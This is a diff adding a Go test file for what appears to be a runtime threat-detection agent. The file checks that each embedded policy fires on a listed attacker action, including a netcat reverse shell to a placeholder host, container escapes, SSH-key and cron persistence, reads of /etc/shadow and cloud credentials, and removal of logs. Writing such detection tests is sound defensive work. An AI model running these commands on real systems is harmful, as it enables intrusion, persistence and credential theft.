@@ -1,0 +1,155 @@
+package rules
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/sightglass/sightglass/policies"
+)
+
+// ownDeeds has what every embedded policy is about. The first deeds of a policy
+// do it plainly, the later ones in disguise.
+var ownDeeds = []deed{
+	// mining.yaml
+	{"Crypto miner", anywhere, "as xmrig"},
+	{"Crypto miner", anywhere, "as kworker -o stratum+tcp://pool.example.org:3333"},
+	{"Connection to a mining pool", anywhere, "connect tcp 203.0.113.7:3333"},
+
+	// escape.yaml
+	{"Container reached for the host", inPrivileged, "write /proc/sys/kernel/core_pattern"},
+	{"Container reached for the host", inPrivileged, "symlink /proc/sys/kernel/core_pattern $HERE/x | write $HERE/x"},
+	{"Container reached for the host", inContainer, "create $HERE/release_agent"},
+	{"Container opened a disk or the memory of the host", inPrivileged, "device 7 0 /dev/vdz | read /dev/vdz"},
+	{"Container opened a disk or the memory of the host", inPrivileged, "device 7 0 /dev/vdy | symlink /dev/vdy $HERE/x | read $HERE/x"},
+	{"Container talks to the container runtime", inContainer, "listen-unix /run/docker.sock | connect-unix /run/docker.sock"},
+	{"Container mounted a file system", inPrivileged, "mkdir $HERE/x | mount proc proc $HERE/x | umount $HERE/x"},
+	{"Container entered another namespace", inPrivileged, "setns /proc/self/ns/uts"},
+	{"Container made a user namespace", inContainer, "run busybox unshare -U true"},
+	{"Container looked through another root", inContainer, "read /proc/1/root/etc/passwd"},
+	{"Kernel module loaded by a container", inPrivileged, "module"},
+	{"eBPF program loaded by a container", inPrivileged, "bpf"},
+	{"File opened past all directories", inPrivileged, "create /dev/shm/x | handle /dev/shm/x"},
+	{"Device node made in a container", inContainer, "device 254 0 $HERE/x"},
+
+	// shells.yaml
+	{"Remote shell tool", anywhere, "as nc -e /bin/sh 203.0.113.7 4444"},
+	{"Shell opened a network connection", anywhere, "as bash | connect tcp 203.0.113.7:4444"},
+	{"Interactive shell without a terminal", anywhere, "as sh -i"},
+	{"Input and output handed to a connection", inContainer, "redirect"},
+	{"Shell started by a network service", anywhere, "as nginx | run sh -c true"},
+	{"Terminal shell in a container", inContainer, "tty | run sh -c true"},
+	{"Terminal made by a script", anywhere, "as python3 -c 'import pty; pty.spawn(1)'"},
+	{"Download by a network service", anywhere, "as nginx | as sh | as curl http://192.0.2.9"},
+
+	// persistence.yaml
+	{"Library preloaded into every program", anywhere, "create /etc/ld.so.preload | remove /etc/ld.so.preload"},
+	{"List of accepted SSH keys changed", anywhere, "create /root/.ssh/authorized_keys"},
+	{"List of accepted SSH keys changed", anywhere, "create /home/ada/.ssh/authorized_keys | symlink /home/ada/.ssh/authorized_keys $HERE/x | append $HERE/x"},
+	{"Scheduled job changed", anywhere, "create /var/spool/cron/crontabs/root"},
+	{"Scheduled job changed", anywhere, "mkdir /etc/cron.d | create /srv/x | copy /srv/x /etc/cron.d/$NAME"},
+	{"Service added or changed", anywhere, "create /etc/systemd/system/$NAME.service"},
+	{"Service added or changed", anywhere, "mkdir /etc/systemd/system | symlink /etc/systemd/system $HERE/x | create $HERE/x/$NAME.service"},
+	{"Profile of a shell changed", anywhere, "append /root/.bashrc"},
+
+	// kubernetes.yaml
+	{"Service account token read by hand", inContainer, "create /run/secrets/kubernetes.io/serviceaccount/token | run cat /run/secrets/kubernetes.io/serviceaccount/token"},
+	{"Pod contacted a kubelet", inContainer, "connect tcp 10.1.2.3:10250"},
+	{"Pod contacted the store of the cluster", inContainer, "connect tcp 10.1.2.3:2379"},
+	{"API server contacted by hand", inContainer, "as curl | connect tcp 10.1.2.3:6443"},
+	{"Cluster client run in a pod", inContainer, "as kubectl get secrets"},
+	{"Settings of a node changed", anywhere, "create /etc/kubernetes/manifests/$NAME.yaml"},
+
+	// execution.yaml
+	{"Program run from memory", anywhere, "memfd program"},
+	{"Program that is not in the image", inContainer, "copy /bin/busybox $HERE/true | run $HERE/true"},
+	{"Program run from a temporary directory", anywhere, "mkdir /tmp/$NAME | copy /proc/self/exe /tmp/$NAME/x | try /tmp/$NAME/x -h"},
+	{"Program run from a temporary directory", anywhere, "mkdir /tmp/$NAME | copy /proc/self/exe /tmp/$NAME/x | symlink /tmp/$NAME/x $HERE/x | try $HERE/x -h"},
+	{"Package manager run in a container", inContainer, "as apk add nmap"},
+	{"Program made executable in a container", inContainer, "create /tmp/$NAME | as chmod | chmod 755 /tmp/$NAME"},
+
+	// logins.yaml
+	{"Attack on pkexec or sudoedit", anywhere, `as sudoedit -s \`},
+	{"Page faults handled by an ordinary user", outside, "uid 1000 | userfaultfd"},
+	{"Unexpected change to root", outside, "login 1000 | setresuid 0"},
+	{"Program made to run as its owner", anywhere, "create $HERE/x | chmod 4755 $HERE/x"},
+	{"Program made to run as its owner", anywhere, "create $HERE/x | fchmod 4755 $HERE/x"},
+	{"SSH server in a container", inContainer, "as sshd -D"},
+	{"Login over SSH", outside, "login 1000 | as sshd | as bash -l"},
+	{"Change to another user", outside, "login 1000 | as bash | as su -"},
+	{"Login at a terminal", outside, "login 1000 | as login | tty | as bash"},
+	{"Service account at a terminal", outside, "uid 33 | tty | as sh"},
+	{"Account added or changed", outside, "as useradd -o -u 0 x"},
+	{"Capabilities given to a program", anywhere, "as setcap cap_setuid+ep /srv/x"},
+
+	// credentials.yaml
+	{"Secret of the system read", anywhere, "read /etc/shadow"},
+	{"Secret of the system read", anywhere, "symlink /etc/shadow $HERE/x | read $HERE/x"},
+	{"Secret of the system read", anywhere, "symlink /etc $HERE/x | cd $HERE/x | read ../etc/shadow"},
+	{"Private key or cloud credential read", anywhere, "create /root/.ssh/id_ed25519 | read /root/.ssh/id_ed25519"},
+	{"Private key or cloud credential read", anywhere, "create /home/ada/.aws/credentials | symlink /home/ada $HERE/x | read $HERE/x/.aws/credentials"},
+	{"Credential of the cluster read", anywhere, "create /etc/kubernetes/admin.conf | read /etc/kubernetes/admin.conf"},
+	{"Link to a secret made", anywhere, "link /etc/shadow /etc/shadow-$NAME"},
+	{"Link to a secret made", anywhere, "symlink /etc/shadow $HERE/x"},
+	{"Environment of another process read", anywhere, "read /proc/$PARENT/environ"},
+	{"Search for credentials", anywhere, "run find /root -name id_rsa"},
+
+	// evasion.yaml
+	{"Shell history deleted", anywhere, "create /root/.bash_history | remove /root/.bash_history"},
+	{"Shell history deleted", anywhere, "append /root/.zsh_history | truncate /root/.zsh_history"},
+	{"Another process was traced", anywhere, "trace"},
+	{"Memory of another process written", anywhere, "poke"},
+	{"System log deleted", anywhere, "create /var/log/auth.log"},
+	{"Protection switched off", anywhere, "as systemctl stop auditd"},
+	{"Data wiped", anywhere, "as shred -u /srv/x"},
+
+	// network.yaml
+	{"Outbound connection from a database", anywhere, "as postgres | connect tcp 203.0.113.7:443"},
+	{"Metadata service contacted from a container", inContainer, "connect tcp 169.254.169.254:80"},
+	{"SSH to an unusual port", anywhere, "as ssh | connect tcp 203.0.113.7:443"},
+	{"Tunnel to the outside", anywhere, "as frpc -c x"},
+	{"Network scanner", anywhere, "as nmap -sn 192.0.2.0/24"},
+	{"Container listens to the network itself", inContainer, "packet"},
+	{"Remote copy from a container", inContainer, "as scp x y:"},
+
+	// files.yaml
+	{"Rules of logging in changed", anywhere, "append /etc/sudoers"},
+	{"Rules of logging in changed", anywhere, "append /etc/passwd | symlink /etc/passwd $HERE/x | append $HERE/x"},
+	{"Write below a binary directory", anywhere, "create /usr/local/bin/$NAME"},
+	{"Write below a binary directory", anywhere, "create /usr/local/bin/$NAME | rename /usr/local/bin/$NAME /usr/local/bin/$NAME.x"},
+	{"Shared library changed", anywhere, "create /usr/local/lib/libx.so.1"},
+	{"Boot files changed", inContainer, "create /boot/grub/grub.cfg"},
+	{"Write below /etc", anywhere, "create /etc/$NAME"},
+	{"Write below /etc", anywhere, "symlink /etc $HERE/x | create $HERE/x/$NAME"},
+}
+
+// notPlayed are the policies that no test can provoke, and why.
+var notPlayed = map[string]string{
+	"Kernel module loaded by hand": "it fires when a module was really loaded",
+}
+
+// TestOwnPolicies: every embedded policy fires on what it describes, through
+// symbolic links too.
+func TestOwnPolicies(t *testing.T) {
+	binary := agentBinary(t)
+	requireEveryRule(t, ownFiles(t), ownDeeds, notPlayed)
+	w := watch(t, binary)
+	w.play(t, newTheater(t), ownDeeds)
+}
+
+// ownFiles are the embedded policies as files, in their order.
+func ownFiles(t *testing.T) []string {
+	t.Helper()
+	files, err := policies.Files()
+	require.NoError(t, err)
+	var out []string
+	dir := t.TempDir()
+	for _, f := range files {
+		path := filepath.Join(dir, f.Name)
+		require.NoError(t, os.WriteFile(path, f.Content, 0o600))
+		out = append(out, path)
+	}
+	return out
+}
